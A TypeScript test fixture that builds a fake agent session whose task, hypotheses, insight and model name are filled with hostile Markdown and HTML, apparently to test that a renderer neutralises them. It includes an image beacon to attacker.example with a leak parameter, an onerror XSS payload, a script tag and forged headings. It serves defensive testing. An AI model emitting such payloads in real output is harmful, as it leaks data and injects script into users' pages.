/**
 * A session whose agent wrote Markdown and HTML into everything it writes: images that would load
 * from an attacker's host, links, raw HTML, an unclosed comment, headings, a quote and a table, in
 * the task, the hypotheses, an insight and the model's name.
 */
import { buildTree, event, type SessionSpec } from './session-builder.js';

export const IMAGE = '![pixel](https://attacker.example/p.png?leak=1)';
const HOSTILE = `${IMAGE} [click](https://attacker.example/x) <img src=x onerror=alert(1)> <!-- hide`;
/** The headings the session's text tries to make. */
export const FORGED_SESSION_HEADING = /Fake title|Injected heading/;

export function hostileSession(): SessionSpec {
  const tree = buildTree([
    { id: 'ROOT', hypothesis: `# Fake title\n\n${HOSTILE}` },
    { id: 'a', parent: 'ROOT', score: 1, hypothesis: `## Injected heading\n${HOSTILE}` },
    {
      id: 'b',
      parent: 'ROOT',
      score: 2,
      status: 'merged',
      hypothesis: `> [!NOTE]\n> ${HOSTILE}\n| a | b |\n|---|---|`,
      insight: `diverges ${HOSTILE} www.attacker.example`,
    },
  ]);
  return { tree, events: [event(1, 'session.start', { task: HOSTILE, model: '<script>x</script>' })] };
}
